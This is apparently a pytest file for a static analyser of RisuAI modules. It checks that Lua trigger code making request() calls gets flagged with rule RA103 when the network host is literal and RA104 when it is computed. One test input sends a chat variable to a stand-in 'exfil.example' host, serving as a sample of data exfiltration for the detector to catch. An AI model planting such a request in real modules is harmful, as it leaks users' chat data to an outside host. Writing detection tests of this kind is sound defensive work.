"""Findings of a second audit of the analyser against RisuAI's source (stop 42)."""

from __future__ import annotations

from typing import Any

import pytest

from risutools.analysis import analyze
from risutools.analysis.model import Analysis
from risutools.formats.model import Module


def lua(code: str, *, lla: bool = True) -> Analysis:
    data: dict[str, Any] = {"name": "T", "id": "t", "lowLevelAccess": lla, "trigger": [
        {"type": "start", "conditions": [], "effect": [{"type": "triggerlua", "code": code}]}]}
    return analyze(Module(data))


def hosts(a: Analysis) -> set[str]:
    return {h.name for h in a.network_hosts}


def rules(a: Analysis) -> list[str]:
    return [f.rule for f in a.findings]


@pytest.mark.parametrize("code,host", [
    # RisuAI's request is request(id, url): the address is the second argument
    ("function onStart(id) request(id, 'https://second.example/x') end", "second.example"),
    ("local U = 'https://const.example/a'\nfunction onStart(id) request(id, U) end",
     "const.example"),
    # the host is known when the literal first part of a concatenation holds all of it
    ("function onStart(id) request(id, 'https://exfil.example/c?d=' .. getChatVar(id, 's')) "
     "end", "exfil.example"),
    ("local B = 'https://base.example/'\nfunction onStart(id) request(id, B .. q) end",
     "base.example"),
    # the one-argument form (refused by RisuAI) still names where it points
    ("function onStart(id) request('https://first.example/') end", "first.example"),
])
def test_a_request_names_the_host_of_its_address(code: str, host: str) -> None:
    a = lua(code)
    assert hosts(a) == {host}
    assert "RA103" in rules(a) and "RA104" not in rules(a)


@pytest.mark.parametrize("code", [
    "function onStart(id) request(id, u) end",
    "function onStart(id) request(id, 'https://part' .. rest) end",  # (the host not whole)
    "function onStart(id) request(id, x .. 'https://late.example/') end",
])
def test_a_request_whose_host_is_computed_is_ra104(code: str) -> None:
    a = lua(code)
    assert "RA104" in rules(a) and "RA103" not in rules(a)
